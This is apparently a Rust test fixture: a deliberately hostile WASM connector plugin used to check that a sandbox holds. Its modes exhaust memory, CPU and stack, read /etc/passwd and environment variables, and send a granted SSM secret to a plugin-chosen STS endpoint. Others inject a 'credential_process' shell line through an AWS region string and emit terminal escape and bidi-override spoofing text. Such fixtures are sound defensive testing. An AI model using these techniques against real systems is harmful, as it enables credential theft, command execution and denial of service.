//! A connector plugin that misbehaves on request, to prove the sandbox holds.
//!
//! It handles type `hostile`. The spec's `conn_id` chooses the misbehaviour:
//! `loop`, `oom`, `panic`, `ssm:<name>` (read that SSM parameter), `sts`,
//! `role:<arn>` (assume that role), `worker` (ask for the worker's
//! credentials), `bad-session-name`, `flood` (return a huge result),
//! `recurse` (stack exhaustion), `huge` (a 300 MiB string), `clock` (time and
//! randomness, which WASI does give), `net:<addr>` and `dns` (sockets),
//! `env` / `file` / `stdout` (try what WASI would allow if anything were granted),
//! `sleep` (an hour, through WASI), `ssm-loop` / `sts-loop` (capability calls
//! without end), `sts-endpoint:<url>` (AssumeRole sent to a URL of its
//! choosing, carrying a granted secret), `endpoint:<url>` (credentials that
//! steer the job to a URL), `sts-bad-region` / `resolved-bad-region` (a region
//! with a line break and a `credential_process`), `expiration-max`,
//! `aws-expiration-max`, `aws-cli-without-credentials`, `bad-value-name`,
//! `terminal` (a problem full of escape sequences and bidi overrides),
//! `count` (bumps a `static` and returns it), `panic-long` (a 100 KB panic
//! message), `many-problems` (2,000 of them);
//! anything else behaves well. Its `describe` sleeps for an hour when the
//! worker's `CONN_APP_NAME` contains `hostile-sleep-in-describe`, and lists
//! its type twice when it contains `hostile-duplicate-types`, an invalid type
//! with `hostile-bad-type`, and asks for AWS with `hostile-describe-asks-aws`.

#![cfg(target_family = "wasm")]

wit_bindgen::generate!({ world: "plugin", path: "../../wit/v0.2.0" });

use exports::lava::connector::connector::Guest;
use lava::connector::types::{
    AwsCredentials, Descriptor, JobContext, LauncherKind, NamedValue, Problem, Resolved, Severity, ValidateContext,
};
use lava::connector::{config, log, ssm, sts};

/// A region that would add a `credential_process` line to an AWS config file.
const INJECTED_REGION: &str = "us-east-1\ncredential_process = sh -c 'touch /tmp/lava-conn-pwned'";

fn request(role_arn: &str) -> sts::AssumeRoleRequest {
    sts::AssumeRoleRequest {
        role_arn: role_arn.into(),
        session_name: "hostile".into(),
        duration_seconds: 900,
        external_id: None,
        policy_arns: vec![],
        policy: None,
        tags: vec![],
        transitive_tag_keys: vec![],
        source_identity: None,
        region: None,
        endpoint_url: None,
        source: None,
    }
}

fn credentials(endpoint_url: Option<String>, region: Option<String>, expiration: Option<u64>) -> AwsCredentials {
    AwsCredentials {
        access_key_id: "AKIDHOSTILE0001".into(),
        secret_access_key: "hostile-secret".into(),
        session_token: None,
        expiration,
        region,
        endpoint_url,
    }
}

struct Hostile;
export!(Hostile);

/// The misbehaviour named in the spec: the text after `"conn_id":"`.
fn mode(spec: &str) -> String {
    let start = spec.find("\"conn_id\":\"").map(|i| i + 11).unwrap_or(spec.len());
    spec[start..].split('"').next().unwrap_or("").to_string()
}

fn misbehave(mode: &str) -> Result<String, String> {
    match mode {
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "oom" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
            }
        }
        "panic" => panic!("hostile plugin panics on purpose"),
        "panic-long" => panic!("hostile plugin panics at length: {}", "x".repeat(100_000)),
        "recurse" => Ok(format!("{}", recurse(std::hint::black_box(1)))),
        "recurse-big" => Ok(format!("{}", recurse_big_frames(std::hint::black_box(1)))),
        "huge" => {
            // Hundreds of MiB: more than the memory cap lets it build.
            let huge = "x".repeat(300 << 20);
            Ok(huge)
        }
        "clock" => {
            let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_err(|e| e.to_string())?;
            let mut seeds = std::collections::hash_map::RandomState::new();
            let _ = &mut seeds;
            Ok(format!("clock={} random=ok", now.as_secs() > 0))
        }
        m if m.starts_with("net:") => match std::net::TcpStream::connect(&m[4..]) {
            Ok(_) => Ok("connected".into()),
            Err(e) => Err(format!("net: {e}")),
        },
        "dns" => match std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)) {
            Ok(addrs) => Ok(format!("resolved {}", addrs.count())),
            Err(e) => Err(format!("dns: {e}")),
        },
        "sts" => sts::assume_role(&request("arn:aws:iam::123456789012:role/x"))
            .map(|c| c.access_key_id)
            .map_err(|e| format!("{e:?}")),
        m if m.starts_with("role:") => {
            sts::assume_role(&request(&m[5..])).map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
        }
        m if m.starts_with("sts-endpoint:") => {
            // Exfiltration: a granted secret in the tags, sent where the plugin says.
            let secret = ssm::get_parameter("/lava/prod/granted", true).unwrap_or_default();
            let mut r = request("arn:aws:iam::123456789012:role/x");
            r.tags = vec![sts::Tag { key: "stolen".into(), value: secret }];
            r.endpoint_url = Some(m[13..].to_string());
            r.source = Some(credentials(None, None, None));
            sts::assume_role(&r).map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
        }
        "sts-bad-region" => {
            let mut r = request("arn:aws:iam::123456789012:role/x");
            r.region = Some(INJECTED_REGION.into());
            sts::assume_role(&r).map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
        }
        "count" => {
            // State that would leak between calls if an instance were reused.
            static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
            Ok(format!("calls={}", CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1))
        }
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3600));
            Ok("slept".into())
        }
        "ssm-loop" => loop {
            let _ = std::hint::black_box(ssm::get_parameter("/lava/prod/granted", true));
        },
        "sts-loop" => loop {
            let _ = std::hint::black_box(sts::assume_role(&request("arn:aws:iam::123456789012:role/x")));
        },
        "worker" => lava::connector::worker_credentials::get().map(|c| c.access_key_id).map_err(|e| format!("{e:?}")),
        "env" => Ok(format!(
            "env={:?} args={:?}",
            std::env::vars().collect::<Vec<_>>(),
            std::env::args().collect::<Vec<_>>()
        )),
        "file" => std::fs::read_to_string("/etc/passwd").map_err(|e| format!("file: {e}")),
        "stdout" => {
            println!("hostile output on stdout");
            Ok("printed".into())
        }
        "log" => {
            for i in 0..100_000 {
                log::log(log::Level::Info, &format!("hostile log line {i}"));
            }
            Ok("logged".into())
        }
        m if m.starts_with("ssm:") => ssm::get_parameter(&m[4..], true).map_err(|e| format!("{e:?}")),
        _ => Ok("fine".into()),
    }
}

/// Recursion the optimiser cannot turn into a loop, with frames on the wasm
/// stack only: exhausts wasmtime's call stack limit.
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    if std::hint::black_box(depth) == 0 {
        return 0;
    }
    recurse(std::hint::black_box(depth + 1)).wrapping_add(depth)
}

/// Recursion with big frames, which Rust keeps on its shadow stack in linear
/// memory: runs off the bottom of memory.
#[inline(never)]
fn recurse_big_frames(depth: u64) -> u64 {
    let frame = [depth; 64];
    std::hint::black_box(&frame);
    recurse_big_frames(std::hint::black_box(depth + 1)) + frame[depth as usize % 64]
}

impl Guest for Hostile {
    fn describe() -> Descriptor {
        let template = config::get("CONN_APP_NAME").unwrap_or_default();
        if template.contains("hostile-sleep-in-describe") {
            std::thread::sleep(std::time::Duration::from_secs(3600));
        }
        let mut types = vec!["hostile".to_string()];
        if template.contains("hostile-duplicate-types") {
            types.push("HOSTILE".into());
        }
        if template.contains("hostile-bad-type") {
            types = vec!["bad type!".into()];
        }
        let mut version = "0.0.1".to_string();
        if template.contains("hostile-describe-asks-aws") {
            // What describe gets when it asks for AWS, shown in its version.
            let ssm = ssm::get_parameter("/lava/prod/granted", true).err().map(|e| format!("{e:?}"));
            let worker = lava::connector::worker_credentials::get().err().map(|e| format!("{e:?}"));
            version = format!("ssm={} worker={}", ssm.unwrap_or_default(), worker.unwrap_or_default());
        }
        Descriptor { types, version, fields: vec![] }
    }

    fn validate(spec: String, _context: ValidateContext) -> Vec<Problem> {
        if mode(&spec) == "many-problems" {
            let problem =
                Problem { field: "conn_id".into(), message: "one of many".into(), severity: Severity::Warning };
            return vec![problem; 2_000];
        }
        if mode(&spec) == "terminal" {
            return vec![Problem {
                field: "conn_id\u{1b}[2K".into(),
                message: "\u{1b}]0;owned\u{7}\rall good\u{202E}lmth.exe\u{200B}".into(),
                severity: Severity::Error,
            }];
        }
        match misbehave(&mode(&spec)) {
            Ok(_) => vec![],
            Err(message) => vec![Problem { field: "conn_id".into(), message, severity: Severity::Error }],
        }
    }

    fn session_name(spec: String, _context: JobContext) -> Result<String, Vec<Problem>> {
        match mode(&spec).as_str() {
            "bad-session-name" => Ok("no spaces allowed here".into()),
            m => misbehave(m)
                .map(|_| "hostile-session".into())
                .map_err(|message| vec![Problem { field: "conn_id".into(), message, severity: Severity::Error }]),
        }
    }

    fn resolve(spec: String, _context: JobContext) -> Result<Resolved, String> {
        let mode = mode(&spec);
        let resolved = |aws: Option<AwsCredentials>, expiration: Option<u64>, launcher: Option<LauncherKind>| {
            Ok(Resolved { values: vec![], expiration, aws, launcher })
        };
        match mode.as_str() {
            m if m.starts_with("endpoint:") => {
                resolved(Some(credentials(Some(m[9..].to_string()), None, None)), None, Some(LauncherKind::AwsCli))
            }
            "resolved-bad-region" => {
                resolved(Some(credentials(None, Some(INJECTED_REGION.into()), None)), None, Some(LauncherKind::AwsCli))
            }
            "expiration-max" => resolved(None, Some(u64::MAX), None),
            "aws-expiration-max" => resolved(Some(credentials(None, None, Some(u64::MAX))), None, None),
            "aws-cli-without-credentials" => resolved(None, None, Some(LauncherKind::AwsCli)),
            "bad-value-name" => Ok(Resolved {
                values: vec![NamedValue { name: "NOT A NAME".into(), value: "v".into(), secret: false }],
                expiration: None,
                aws: None,
                launcher: None,
            }),
            "flood" => Ok(Resolved {
                values: vec![NamedValue { name: "FLOOD".into(), value: "x".repeat(4 << 20), secret: false }],
                expiration: None,
                aws: None,
                launcher: None,
            }),
            m => {
                let value = misbehave(m)?;
                Ok(Resolved {
                    values: vec![NamedValue { name: "RESULT".into(), value, secret: false }],
                    expiration: None,
                    aws: None,
                    launcher: None,
                })
            }
        }
    }
}
